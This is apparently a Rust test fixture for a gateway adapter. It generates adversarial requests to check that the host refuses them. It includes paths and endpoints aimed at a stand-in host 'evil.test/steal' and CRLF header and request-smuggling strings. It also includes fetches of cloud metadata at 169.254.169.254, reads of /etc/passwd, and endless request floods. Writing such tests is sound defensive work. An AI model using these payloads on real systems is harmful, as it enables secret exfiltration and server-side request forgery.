//! Asks for requests that go elsewhere, look like others, or never end.

use crate::{
    bindings::witgate::adapter::machine::{
        Data, Effect, Event, Extra, Field, Form, Frame, Media, Outgoing, Part, Payload, Piece, Request,
    },
    exhaust::pause,
    turn::{Turn, answer, authorized, field, finish, harmless},
};

pub(crate) fn step(turn: &Turn<'_>) -> Option<Vec<Effect>> {
    if let Some(effects) = protocol(turn) {
        return Some(effects);
    }
    if !turn.starts() {
        return None;
    }
    let request = elsewhere(turn.name).or_else(|| smuggled(turn.name)).or_else(|| unknown(turn.name))?;
    Some(vec![Effect::Send(request)])
}

/// The secret is asked for in each of these: what leads elsewhere would take it along.
fn elsewhere(name: &str) -> Option<Request> {
    let path = match name {
        "host-absolute-url" => "http://evil.test/steal",
        "host-double-slash" => "//evil.test/steal",
        "host-at-sign" => "@evil.test/steal",
        "host-suffix" => ".evil.test/steal",
        "host-port" => ":1/steal",
        "host-crlf" => "/x HTTP/1.1\r\nhost: evil.test\r\n\r\nGET /steal",
        "host-encoded-crlf" => "/x%0d%0ahost:%20evil.test",
        "host-encoded-slashes" => "/%2f%2fevil.test/..%2f..%2fsteal",
        "host-dot-segments" => "/../../steal",
        "host-encoded-dots" => "/%2e%2E/.%2e/steal",
        "host-unicode-dots" => "/\u{2025}/\u{ff0e}\u{ff0e}/steal",
        "host-backslash" => "/\\evil.test\\steal",
        "host-tab" => "/\t/evil.test/steal",
        "host-query" => "/x?url=http://evil.test/",
        "host-fragment" => "/x#@evil.test/",
        "host-no-slash" => "steal",
        "host-long-path" => return Some(Request { path: format!("/{}", "x".repeat(8 << 20)), ..authorized(1) }),
        "host-endpoint" => return Some(Request { endpoint: "http://evil.test".to_owned(), ..authorized(1) }),
        "endpoint-metadata" => return Some(Request { endpoint: "other".to_owned(), ..harmless(1) }),
        "endpoint-unknown" => return Some(Request { endpoint: "moon".to_owned(), ..authorized(1) }),
        _ => return None,
    };
    Some(Request { path: path.to_owned(), ..authorized(1) })
}

/// What would make one request look like two, or like another.
fn smuggled(name: &str) -> Option<Request> {
    let header = |name: &str, value: &str| Request { headers: vec![field(name, value)], ..harmless(1) };
    let part = |part: Part| Request {
        body: Payload::Form(Form { encoding: "multipart".to_owned(), parts: vec![part] }),
        ..harmless(1)
    };
    let plain = || Part {
        name: "file".to_owned(),
        filename: None,
        content_type: None,
        data: Data::Bytes(b"x".to_vec()),
        extras: Vec::new(),
    };
    let broken_line = || "x\"\r\ncontent-type: text/html\r\n\r\n".to_owned();
    Some(match name {
        "header-host" => header("Host", "evil.test"),
        "header-content-length" => header("content-length", "3"),
        "header-transfer-encoding" => header("Transfer-Encoding", "chunked"),
        "header-connection" => header("connection", "authorization, keep-alive"),
        "header-proxy" => header("proxy-authorization", "Basic eA=="),
        "header-name-crlf" => header("x-a: b\r\nhost", "evil.test"),
        "header-value-crlf" => header("x-a", "b\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /steal HTTP/1.1"),
        "header-value-nul" => header("x-a", "b\0c"),
        "header-pseudo" => header(":authority", "evil.test"),
        "method-crlf" => {
            Request { method: "GET /steal HTTP/1.1\r\nhost: evil.test\r\n\r\nPOST".to_owned(), ..harmless(1) }
        }
        "method-connect" => Request { method: "CONNECT".to_owned(), ..authorized(1) },
        "query-crlf" => Request {
            query: vec![field("a&b=c#\r\nhost: evil.test", "d&e=f\r\n\r\nGET /steal HTTP/1.1")],
            ..harmless(1)
        },
        "form-part-crlf" => part(Part { name: broken_line(), ..plain() }),
        "form-filename-crlf" => part(Part { filename: Some(broken_line()), ..plain() }),
        "form-type-crlf" => part(Part { content_type: Some(broken_line()), ..plain() }),
        _ => return None,
    })
}

/// Words that no host of this contract knows.
fn unknown(name: &str) -> Option<Request> {
    let extra = || Extra { name: "future\u{1b}[2J\r\nforged".to_owned(), json: "{not json".to_owned() };
    Some(match name {
        "unknown-framing" => Request { framing: "carrier-pigeon".to_owned(), ..harmless(1) },
        "unknown-body" => Request { body: Payload::Ext(extra()), ..harmless(1) },
        "unknown-held" => Request { body: Payload::Held("../../etc/passwd".to_owned()), ..harmless(1) },
        "unknown-form" => {
            Request { body: Payload::Form(Form { encoding: "yaml".to_owned(), parts: Vec::new() }), ..harmless(1) }
        }
        "unknown-piece" => {
            let mut request = harmless(1);
            request.headers.push(Field { name: "x-a".to_owned(), value: vec![Piece::Ext(extra())] });
            request
        }
        "utf8-path" => Request { path: crate::raw::not_utf8(), ..harmless(1) },
        "utf8-header" => Request {
            headers: vec![Field { name: "x-a".to_owned(), value: vec![Piece::Text(crate::raw::not_utf8())] }],
            ..harmless(1)
        },
        _ => return None,
    })
}

/// Breaks the rules of the exchange rather than those of a request.
fn protocol(turn: &Turn<'_>) -> Option<Vec<Effect>> {
    let start = turn.starts();
    Some(match turn.name {
        "same-id-twice" if start => vec![Effect::Send(harmless(1)), Effect::Send(harmless(1))],
        "requests-in-flight" if start => (1..=64).map(|id| Effect::Send(harmless(id))).collect(),
        // The next one as soon as the last one is answered, for ever.
        "requests-many" if start || turn.events.iter().any(|event| matches!(event, Event::End(_))) => {
            vec![Effect::Send(harmless(turn.step))]
        }
        "requests-many" => Vec::new(),
        "relay-unknown" if start => [vec![Effect::Relay(7)], answer("relayed nothing")].concat(),
        "cancel-unknown" if start => [vec![Effect::Cancel(7)], answer("cancelled nothing")].concat(),
        "ws-unknown" if start => {
            vec![Effect::WsSend(Outgoing { id: 7, message: Frame::Text("hello?".to_owned()) })]
        }
        "fetch-loopback" if start => vec![fetch("http://127.0.0.1:1/steal")],
        "fetch-metadata" if start => vec![fetch("http://169.254.169.254/latest/meta-data/")],
        "fetch-file" if start => vec![fetch("file:///etc/passwd")],
        "send-after-finish" if start => vec![finish(), Effect::Send(harmless(1))],
        "send-and-leave" if start => vec![Effect::Send(harmless(1)), Effect::Cancel(1), pause(1, 0)],
        _ => return None,
    })
}

fn fetch(url: &str) -> Effect {
    Effect::Fetch(Media { id: 1, url: url.to_owned() })
}
